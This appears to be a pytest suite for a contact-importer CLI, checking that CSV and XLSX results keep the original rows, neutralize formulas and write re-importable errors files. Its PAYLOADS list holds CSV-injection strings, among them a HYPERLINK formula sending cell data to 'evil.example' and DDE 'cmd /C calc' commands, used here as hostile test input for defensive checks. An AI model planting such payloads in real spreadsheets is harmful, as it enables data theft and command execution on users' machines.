"""The results contract: one row per input row, original columns unchanged, formulas made inert, an errors
file that can be fixed and fed straight back, and CSV or XLSX as asked."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from importer.commands.cli import cli
from importer.reading.cells import neutralize
from importer.results.writer import CsvLine

ROOT = Path(__file__).resolve().parents[2]
ACCOUNT = str(ROOT / "sample_data" / "account.toml")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]


def validate(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(cli, ["validate", *args, "-a", ACCOUNT, "--no-progress"])
    return result.exit_code, result.output


def rows_of(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def write_sheet(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)
    return path


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    rows = [["Name", "Phone", "Note", "Billing Address"]]
    rows += [[payload, "+34 612 34 56 7" + str(i), payload, payload] for i, payload in enumerate(PAYLOADS)]
    rows.append(["Ana", "+34 600 11 22 33", "fine", "Main Street 1"])
    return write_sheet(tmp_path / "hostile.csv", rows)


def test_formulas_are_inert_in_the_csv_results_and_phones_stay_readable(hostile: Path, tmp_path: Path) -> None:
    code, output = validate(str(hostile), "-o", str(tmp_path / "r.csv"))
    assert code == 0, output
    cells = [c for row in rows_of(tmp_path / "r.csv") for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]  # nothing a spreadsheet would evaluate
    assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in cells
    assert "'-2+3" in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert "'+34 600 11 22 33" in cells  # a legitimate value: one quote in front, Excel hides it


def test_formulas_are_inert_in_xlsx_results(hostile: Path, tmp_path: Path) -> None:
    code, output = validate(str(hostile), "-o", str(tmp_path / "r.xlsx"))
    assert code == 0, output
    sheet = openpyxl.load_workbook(tmp_path / "r.xlsx").active
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type == "s" for cell in values if cell.value is not None)  # strings, never formulas
    texts = [cell.value for cell in values]
    assert texts[0] == "row" and "-2+3" in texts and "+34 600 11 22 33" in texts
    # No apostrophe a person would see or copy: the cell style's quote prefix, as Excel marks such text.
    assert not [t for t in texts if t and t.startswith("'")]
    prefixed = {cell.value for cell in values if cell.quotePrefix}
    assert prefixed == {*PAYLOADS, "+34 612 34 56 70", "+34 612 34 56 71", "+34 612 34 56 72", "+34 612 34 56 73",
                        "+34 600 11 22 33"}  # fmt: skip
    assert not [cell for cell in values if cell.quotePrefix and cell.value[:1] not in "=+-@"]


def test_the_xlsx_errors_file_reads_back_as_the_csv_one(tmp_path: Path) -> None:
    rows = [["Name", "Phone", "Note", "Tags"]]
    rows += [[p, "+34 612 34 56 7" + str(i), p, "Gold"] for i, p in enumerate(PAYLOADS)]  # each row invalid
    rows += [["'=1+2", "+34 600 11 22 33", "''-1", "Gold"], ["#N/A", "+1 (305) 555-0130", "\tTab", "Gold"]]
    sheet = write_sheet(tmp_path / "in.csv", rows)
    assert validate(str(sheet), "-o", str(tmp_path / "r.csv"))[0] == 1
    assert validate(str(sheet), "-o", str(tmp_path / "r.xlsx"))[0] == 1
    book = openpyxl.load_workbook(tmp_path / "r.errors.xlsx").active
    cells = {cell.value: cell for row in book.iter_rows() for cell in row}
    assert cells["+1 (305) 555-0130"].quotePrefix and cells["+1 (305) 555-0130"].data_type == "s"
    assert cells["=1+2"].quotePrefix and cells["#N/A"].data_type == "s" and not cells["#N/A"].quotePrefix
    assert "''-1" in cells  # read as '-1 (one quote dropped): written with the quote that reading drops

    # Imported again, the workbook gives the values the CSV errors file gives: the same errors file.
    assert validate(str(tmp_path / "r.errors.xlsx"), "-o", str(tmp_path / "again.csv"))[0] == 1
    assert rows_of(tmp_path / "again.errors.csv") == rows_of(tmp_path / "r.errors.csv")
    assert validate(str(tmp_path / "r.errors.xlsx"), "-o", str(tmp_path / "again.xlsx"))[0] == 1
    again = openpyxl.load_workbook(tmp_path / "again.errors.xlsx").active
    assert [[(c.value, c.quotePrefix) for c in r] for r in again.iter_rows()] == [
        [(c.value, c.quotePrefix) for c in r] for r in book.iter_rows()
    ]


def test_results_keep_every_original_column_and_row_numbers(tmp_path: Path) -> None:
    sheet = write_sheet(
        tmp_path / "in.csv",
        [["Name", "Phone", "Favourite colour"], ["Ana", "+34 612 34 56 78", 'blue, "light"'], [], ["Luis", "x", "red"]],
    )
    code, _ = validate(str(sheet), "-o", str(tmp_path / "r.csv"))
    assert code == 1
    header, *rows = rows_of(tmp_path / "r.csv")
    assert header == [
        *("row", "status", "uuid", "identifier", "error", "warning", "href"),
        *("Name", "Phone", "Favourite colour"),
    ]
    assert [r[:2] for r in rows] == [["2", "valid"], ["4", "invalid"]]  # the blank row 3 is no contact
    assert rows[0][7:] == ["Ana", "'+34 612 34 56 78", 'blue, "light"']


def test_the_errors_file_can_be_fixed_and_imported_as_it_is(tmp_path: Path) -> None:
    sheet = write_sheet(
        tmp_path / "in.csv",
        [
            ["Name", "Phone", "Tags", "Status"],
            ["Ana", "+34 612 34 56 78", "VIP", "Active"],
            ["Luis", "+34 612 34 56 79", "Gold", "Active"],
            ["", "+34 612 34 56 70", "", "Gone"],
        ],
    )
    code, _ = validate(str(sheet), "-o", str(tmp_path / "r.csv"))
    assert code == 1
    errors = tmp_path / "r.errors.csv"
    header, *bad = rows_of(errors)
    assert header == ["Name", "Phone", "Tags", "Status", "error"]
    assert [row[0] for row in bad] == ["Luis", ""]
    assert "Tags: unknown tag 'Gold'" in bad[0][4]
    assert "Name: name is required" in bad[1][4] and "Status: 'Gone'" in bad[1][4]

    code, _ = validate(str(errors), "-o", str(tmp_path / "again.csv"))  # as it is: the same errors again
    assert code == 1
    again = rows_of(tmp_path / "again.errors.csv")
    assert again[0] == header  # its own `error` column is refreshed, not doubled
    assert [row[4] for row in again[1:]] == [row[4] for row in bad]

    bad[0][2], bad[1][0], bad[1][3] = "VIP", "Marta", "Churned"  # the person fixes the rows
    fixed = write_sheet(tmp_path / "fixed.csv", [header, *bad])
    code, output = validate(str(fixed), "-o", str(tmp_path / "fixed.results.csv"))
    assert code == 0, output
    assert not (tmp_path / "fixed.results.errors.csv").exists()


@pytest.mark.parametrize(
    ("content", "code"),
    [
        ("Name,Phone\nAna,+34 612 34 56 78\n", 0),
        ("Name,Phone\nAna,12\n", 1),
        ("Name,Email\nAna,a@b.co\n", 2),
    ],
)
def test_exit_codes(tmp_path: Path, content: str, code: int) -> None:
    path = tmp_path / "in.csv"
    path.write_text(content, encoding="utf-8")
    assert validate(str(path), "-o", str(tmp_path / "r.csv"))[0] == code


def test_a_quoted_formula_and_extra_cells_survive_the_errors_file(tmp_path: Path) -> None:
    sheet = write_sheet(tmp_path / "in.csv", [["Name", "Phone"], ["'=1+2", "12", "extra"]])
    code, _ = validate(str(sheet), "-o", str(tmp_path / "r.csv"))
    assert code == 1
    assert rows_of(tmp_path / "r.csv")[1][7:] == ["''=1+2", "12", "extra"]  # as typed: Excel shows '=1+2
    header, row = rows_of(tmp_path / "r.errors.csv")
    assert header == ["Name", "Phone", "error"]
    assert row[:2] == ["'=1+2", "12"] and row[3:] == ["extra"]  # as read: =1+2; the extra cell after `error`
    assert row[2].startswith("row has 1 more cell(s) than the header has columns")

    code, _ = validate(str(tmp_path / "r.errors.csv"), "-o", str(tmp_path / "again.csv"))
    assert code == 1
    assert rows_of(tmp_path / "again.errors.csv") == [header, row]  # unfixed: the same file again


def test_an_unknown_default_region_is_one_usage_error(tmp_path: Path) -> None:
    sheet = write_sheet(tmp_path / "in.csv", [["Name", "Phone"], ["Ana", "612345678"]])
    code, output = validate(str(sheet), "-o", str(tmp_path / "r.csv"), "--default-region", "XX")
    assert code == 2
    assert "--default-region: 'XX' is not a two-letter country code" in output
    assert not (tmp_path / "r.csv").exists()
    assert validate(str(sheet), "-o", str(tmp_path / "r.csv"), "--default-region", "es")[0] == 0


def test_results_to_a_directory_go_there_under_the_input_name(tmp_path: Path) -> None:
    sheet = write_sheet(tmp_path / "contacts.csv", [["Name", "Phone"], ["Ana", "+34 612 34 56 78"], ["Luis", "12"]])
    out = tmp_path / "out"
    out.mkdir()
    code, output = validate(str(sheet), "-o", str(out))
    assert code == 1, output
    assert sorted(p.name for p in out.iterdir()) == [
        "contacts.results.csv", "contacts.results.errors.csv", "contacts.results.report.html",
        "contacts.results.summary.json",
    ]  # fmt: skip
    assert [r[1] for r in rows_of(out / "contacts.results.csv")] == ["status", "valid", "invalid"]
    assert f"Results: {out / 'contacts.results.csv'}" in output


@pytest.mark.parametrize("name", ["out.json", "out.CSV.txt", "out"])
def test_a_results_name_neither_csv_nor_xlsx_is_a_usage_error_before_any_work(
    sandbox, tmp_path: Path, name: str
) -> None:
    args = ["import", str(tmp_path / "not-read-yet.csv"), "-a", ACCOUNT, "-o", str(tmp_path / name)]
    result = CliRunner().invoke(
        cli, [*args, "--base-url", sandbox.base_url, "--no-progress"], env={"CALLBELL_API_TOKEN": sandbox.token}
    )
    assert result.exit_code == 2, result.output
    assert ".csv or .xlsx" in result.output and name in result.output
    assert "not-read-yet" not in result.output  # the input was not opened
    assert sandbox.stats()["requests"] == 0  # no pre-flight either
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_removal_rows_come_after_the_files_rows_without_a_row_number(tmp_path: Path, suffix: str) -> None:
    from importer.results.rows import read_row_results, rows_frame
    from importer.results.writer import ResultsWriter

    results = tmp_path / f"r{suffix}"
    with ResultsWriter(results, tmp_path / f"r.errors{suffix}", ["Name", "Phone"]) as writer:
        writer.write(2, "skipped", "u1", "34600000001", "", "h1", "Ana,+34 600 00 00 01")
        writer.write_removal("tagged", "u2", "34600000002", "", "h2", "already had the tag 'Gone'")
        writer.write_removal("failed", "u3", "34600000003", "HTTP 500", "h3")
    rows = list(read_row_results(results))
    assert [(r.row, r.status, r.uuid, r.identifier) for r in rows] == [
        (2, "skipped", "u1", "34600000001"),
        (None, "tagged", "u2", "34600000002"),
        (None, "failed", "u3", "34600000003"),
    ]
    assert rows[1].cells == {"Name": "", "Phone": ""} and rows[1].warning == "already had the tag 'Gone'"
    assert not (tmp_path / f"r.errors{suffix}").exists() or len(rows_of_any(tmp_path / f"r.errors{suffix}")) == 1
    frame = rows_frame(iter(rows))
    assert str(frame["row"].dtype) == "Int64" and frame["row"].isna().tolist() == [False, True, True]


def rows_of_any(path: Path) -> list[list[str]]:
    if path.suffix == ".xlsx":
        return [list(r) for r in openpyxl.load_workbook(path).active.iter_rows(values_only=True)]
    return rows_of(path)


_CELL_CHARACTERS = ["a", "é", " ", ",", '"', "\n", "\r", "'", "=", "+", "-", "@", "\t", "1"]


@settings(max_examples=2000, deadline=None)
@given(st.lists(st.text(alphabet=st.sampled_from(_CELL_CHARACTERS), max_size=5), max_size=6))
def test_a_csv_line_is_what_the_csv_module_writes(values: list[str]) -> None:
    # The joined fast line (nothing to quote) and the csv module's line are the same text for any cells.
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow([neutralize(v) for v in values])
    assert CsvLine().format(values) == buffer.getvalue()[:-2]
